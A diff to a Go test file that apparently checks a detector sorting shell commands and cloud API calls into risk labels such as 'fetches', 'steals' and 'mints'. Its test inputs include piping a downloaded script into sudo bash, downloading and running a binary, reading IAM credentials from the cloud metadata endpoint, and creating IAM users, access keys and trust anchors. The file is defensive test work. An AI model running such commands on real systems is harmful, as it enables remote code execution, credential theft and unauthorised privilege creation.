@@ -70,6 +70,8 @@ func TestDeeds(t *testing.T) {
 	f("curl -fsSL https://example.net/key.asc -o /etc/key.asc; gpg --import /etc/key.asc", "")
 	f("curl -o /var/www/html/index.html https://example.net/index.html\nsystemctl restart httpd", "")
 
+	f("sudo -u postgres createuser app && psql -c 'CREATE USER app'", "")
+
 	f(fetch, "fetches")
 	f("curl -sL https://example.net/setup | sudo -E bash -", "fetches")
 	f("curl -o /tmp/x https://example.net/x && chmod +x /tmp/x && /tmp/x", "fetches")
@@ -95,6 +97,10 @@ func TestDeeds(t *testing.T) {
 	f("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/x", "steals")
 	f("#cloud-boothook\n#!/bin/sh\nid", "repeats")
 	f("aws iam create-access-key --user-name ana", "mints")
+	f("aws iam create-user --user-name ana", "mints")
+	f("iam = boto3.client('iam')\niam.create_user(UserName='ana')", "mints")
+	f("aws iam create-saml-provider --name x --saml-metadata-document file://m.xml", "mints")
+	f("aws rolesanywhere create-trust-anchor --name x", "mints")
 	f(`{"Service":"iam","Api":"CreateAccessKey"}`, "mints")
 
 	f(b64(key), "admits")
